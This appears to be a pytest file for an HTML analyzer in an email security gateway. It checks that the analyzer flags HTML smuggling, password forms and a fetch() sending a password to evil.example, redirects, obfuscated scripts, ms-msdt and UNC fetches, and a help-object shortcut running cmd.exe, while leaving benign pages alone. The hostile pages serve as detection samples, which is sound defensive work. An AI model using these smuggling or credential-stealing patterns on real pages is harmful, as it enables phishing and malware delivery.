"""A page is judged by what it does to its reader; scripts, forms and links alone are honest."""

import base64

import pytest

from gateway.demo import samples
from gateway.model import Finding, Level
from gateway.scan.analyzers.html import HtmlAnalyzer
from gateway.scan.api import Artifact, Context
from gateway.scan.kinds import Kind

LETTERS = base64.b64encode(samples.zip_of({"a.js": b"alert(1)"})).decode()
TEXT = "<p>" + "Compte rendu de la consultation du 12 mars. " * 20 + "</p>"


def look(page: str) -> list[Finding]:
    artifact = Artifact(page.encode(), ("message", "a.html"), ("a.html",), "", (Kind.HTML,))
    found = HtmlAnalyzer().analyze(artifact, Context())
    return [seen for seen in found if isinstance(seen, Finding)]


def judged(page: str) -> list[tuple[str, Level]]:
    return [(seen.code, seen.level) for seen in look(page)]


def smuggler(brought: str, name: str) -> str:
    return (
        f"<script>var d={brought};var b=new Blob([d]);var l=document.createElement('a');"
        f"l.href=URL.createObjectURL(b);l.download={name};l.click()</script>"
    )


NUMBERS = ", ".join(str(number % 256) for number in range(80))


MANY = base64.b64encode(samples.zip_of({"a.js": bytes(range(256))})).decode()
PIECES = [MANY[at : at + 8] for at in range(0, len(MANY), 8)]
ADDED = "".join(f"d+='{MANY[at : at + 60]}';" for at in range(0, len(MANY), 60))
FOLDED = base64.encodebytes(base64.b64decode(MANY)).decode()
CLICKED = f"l['href']='data:application/zip;base64,'+'{MANY}';l['download']='facture.zip';l.click()"


@pytest.mark.parametrize(
    ("page", "level"),
    [
        (smuggler(f"atob({PIECES}.join(''))", '"facture.zip"'), Level.MALICIOUS),
        (smuggler(f"'';{ADDED}", '"facture.zip"'), Level.MALICIOUS),
        (smuggler(f"atob(`\n{FOLDED}`)", '"facture.zip"'), Level.MALICIOUS),
        (f"<script>{CLICKED}</script>", Level.MALICIOUS),
        (smuggler(f'atob("{LETTERS}")', '"facture.zip"'), Level.MALICIOUS),
        (smuggler(f"[{NUMBERS}]", "'facture.hta'"), Level.MALICIOUS),
        (smuggler(f'atob("{LETTERS}")', "n"), Level.SUSPICIOUS),
        (
            f"<body onload=\"navigator.msSaveBlob(new Blob([atob('{LETTERS}')]))\">",
            Level.SUSPICIOUS,
        ),
        (
            f"<script>window['UR'+'L']['createObject'+'URL'](new Blob([{NUMBERS}]))</script>",
            Level.SUSPICIOUS,
        ),
    ],
)
def test_a_file_that_a_page_builds_is_smuggled(page: str, level: Level) -> None:
    assert judged(page) == [("html.smuggling", level)]


def test_the_evidence_of_a_hidden_address_is_the_address() -> None:
    address = base64.b64encode(b"https://portal.example.invalid/login").decode()
    page = f'<script>window["location"]["replace"](atob("{address}"))</script>'
    (finding,) = look(page)

    assert finding.evidence == (
        "leads to hxxps://portal[.]example[.]invalid/login, hidden in base64"
    )


def test_the_evidence_of_smuggling_is_the_name_and_the_line() -> None:
    (finding,) = look(smuggler(f'atob("{LETTERS}")', '"facture.zip"'))

    assert finding.evidence.startswith("saved as facture.zip; ")
    assert "createObjectURL" in finding.evidence
    assert finding.evidence.endswith(" characters of base64, which begin PK…")


@pytest.mark.parametrize(
    ("page", "level"),
    [
        (f'<a download="a.zip" href="data:;base64,{LETTERS}">voir</a>', Level.SUSPICIOUS),
        ('<a download="a.js" href="data:text/plain,alert(1)">voir</a>', Level.SUSPICIOUS),
        (
            f'<a id=l download href="data:x/y;base64,{LETTERS}"></a><script>l.click()</script>',
            Level.MALICIOUS,
        ),
    ],
)
def test_a_link_that_saves_what_the_page_carries_is_told(page: str, level: Level) -> None:
    assert judged(page) == [("html.download", level)]


@pytest.mark.parametrize(
    "page",
    [
        '<form action="https://evil.example/p.php"><input type=password></form>',
        "<FORM ACTION='//evil.example/'><INPUT TYPE='Password'></FORM>",
        '<form><input type="password"><button formaction="https://evil.example/">OK</button></form>',
        "<input type=password><script>fetch('https://evil.example/?'+p.value)</script>",
        (
            "<!-- saved from url=(0020)https://good.example/ -->"
            '<form action="https://evil.example/"><input type=password></form>'
        ),
    ],
)
def test_a_password_that_leaves_is_told(page: str) -> None:
    assert [code for code, _ in judged(page)] == ["html.password"]


def test_a_form_that_is_sent_by_itself_is_told() -> None:
    form = '<form action="https://evil.example/"><input name=a></form>'

    assert judged(f"{form}<script>document.forms[0].submit()</script>") == [
        ("html.submits", Level.SUSPICIOUS)
    ]
    assert judged(f'<body onload="f.submit()">{form}') == [("html.submits", Level.SUSPICIOUS)]
    assert judged(f'{form}<a href="#" onclick="f.submit()">Envoyer</a>') == []


@pytest.mark.parametrize(
    "page",
    [
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        "<meta content='0; URL=https://evil.example/' HTTP-EQUIV=Refresh>",
        "<script>location.href='https://evil.example/'</script>",
        "<script>window['loc'+'ation']['replace'](atob('aHR0cHM6Ly9l'))</script>",
        f"{TEXT}<script>window.location = atob('aHR0cHM6Ly9l')</script>",
        "<body onload=\"window.open('https://evil.example/')\">",
        "<script>var u='ht'+'tps://evil.example/';setTimeout(()=>{location.href=u},9)</script>",
        "<script>const u=`https://evil.example/`; window.open(u, '_self')</script>",
        f"{TEXT}<meta http-equiv=refresh content='0;url=https://evil.example/a/setup.exe?b'>",
    ],
)
def test_a_page_that_leads_away_is_told(page: str) -> None:
    assert judged(page) == [("html.redirect", Level.SUSPICIOUS)]


@pytest.mark.parametrize(
    "page",
    [
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "<script>document.write(unescape(x))</script>",
        f"<script>eval(unescape('{'%61' * 50}'))</script>",
        f"<script>var a='{chr(92)}x61{(chr(92) + 'x62') * 400}'</script>",
    ],
)
def test_a_script_that_hides_what_it_does_is_told(page: str) -> None:
    assert judged(page) == [("html.obfuscated", Level.SUSPICIOUS)]


@pytest.mark.parametrize(
    "page",
    [
        r'<img src="\\192.0.2.1\a\b.png">',
        '<iframe src="file://evil.example/a.html"></iframe>',
        '<iframe src="search-ms:query=a&crumb=location:x"></iframe>',
        '<meta http-equiv=refresh content="0;url=ms-msdt:/id">',
        '<xml><w:AttachedTemplate HRef="http://192.0.2.1/a.dot"/></xml>',
    ],
)
def test_what_is_fetched_from_a_share_or_by_windows_is_told(page: str) -> None:
    assert judged(page) == [("html.remote", Level.SUSPICIOUS)]


def test_a_help_page_that_starts_a_program_with_arguments_is_told() -> None:
    page = '<object classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11">{}</object>'
    starts = '<param name="Command" value="ShortCut"><param name="Item1" value=",{}">'

    assert judged(page.format(starts.format("cmd.exe,/c calc"))) == [
        ("html.shortcut", Level.SUSPICIOUS)
    ]
    assert judged(page.format(starts.format("notepad.exe,"))) == []
    assert judged(page.format('<param name="Command" value="Related Topics">')) == []


@pytest.mark.parametrize(
    "page",
    [
        f"<html><body>{TEXT}<img src='cid:logo'><a href='https://a.example/'>Site</a></body></html>",
        "<form action='https://www.hopital.example/recherche'><input name=q></form>",
        (
            "<!-- saved from url=(0025)https://www.good.example/ -->"
            f"{TEXT}<form action='https://www.good.example/login'><input type=password></form>"
        ),
        "<form action='/login'><input type=password></form>",
        "<script>window.print()</script>",
        "<button onclick='window.print()'>Imprimer</button>",
        '<script>document.write(unescape("%3Cscript src=\'" + h + "ga.js\'%3E"))</script>',
        (
            "<script>function save(){var b=new Blob([svg]);a.href=URL.createObjectURL(b);"
            "a.download='plot.svg'}</script>"
        ),
        (
            "<script>var k=['click','keydown','pointerdown','DOMContentLoaded','transitionend',"
            "'visibilitychange','beforeunload','hashchange','popstate','orientationchange',"
            "'touchstart','touchmove','touchend','mouseenter','mouseleave','contextmenu'];"
            "var b=new Blob([t]);a.href=URL.createObjectURL(b);a.download='plot.svg'</script>"
        ),
        (
            "<script>var help='Ce tableau montre les consultations du service par mois et par "
            "motif ainsi que leur issue et le temps passe dans la salle avant la premiere visite';"
            "var b=new Blob([t]);a.href=URL.createObjectURL(b);a.download='plot.svg'</script>"
        ),
        "<script>var home='https://a.example/';var place=home+'b';show(place)</script>",
        "<img src='data:image/png;base64,iVBORw0KGgo='><img src='file:///C:/logo.png'>",
        '<a href="https://a.example/" onclick="window.open(\'https://a.example/\')">x</a>',
        "<meta http-equiv='refresh' content='600'><meta http-equiv=refresh content='0;url=#a'>",
        "<iframe src='about:blank'></iframe><a href='ms-settings:'>x</a>",
        '<xml><w:AttachedTemplate HRef="file:///C:\\modeles\\a.dot"/></xml>',
    ],
)
def test_honest_pages_are_left_alone(page: str) -> None:
    assert judged(page) == []


def test_a_page_with_text_that_moves_on_is_a_note() -> None:
    page = f"{TEXT}<meta http-equiv=refresh content='5;url=https://a.example/'>"

    assert judged(page) == [("html.redirect", Level.NOTE)]


LIBRARY = (
    "function draw(a){return a}" * 8_000
    + "var primes=[" + ",".join(str(n % 250) for n in range(90)) + "];"
    "function save(b){a.href=URL.createObjectURL(new Blob([b]));a.download='plot.zip';a.click()}"
    "function help(){window.open('https://a.example/')}"
)  # fmt: skip
REPORT = (
    f"<script>{LIBRARY}</script><div id=a></div>"
    f'<script>plot("a",[{{"x":[{NUMBERS * 9}],"y":{{"bdata":"{LETTERS * 3}"}}}}])</script>'
)


def test_the_library_of_a_report_has_code_for_every_purpose_and_its_values_are_no_file() -> None:
    assert judged(REPORT) == []


@pytest.mark.parametrize(
    "page",
    [
        f"<script>{LIBRARY};save(atob('{MANY}'))</script>",
        f"<script>var d='{MANY * 500}'</script>{smuggler('atob(d)', 'n')}",
    ],
)
def test_a_file_that_comes_with_a_library_is_smuggled_all_the_same(page: str) -> None:
    assert "html.smuggling" in [code for code, _ in judged(page)]


def test_a_library_that_leads_away_unasked_is_told() -> None:
    page = f"<script>{LIBRARY};location.href='https://evil.example/'</script>"

    assert judged(page) == [("html.redirect", Level.SUSPICIOUS)]
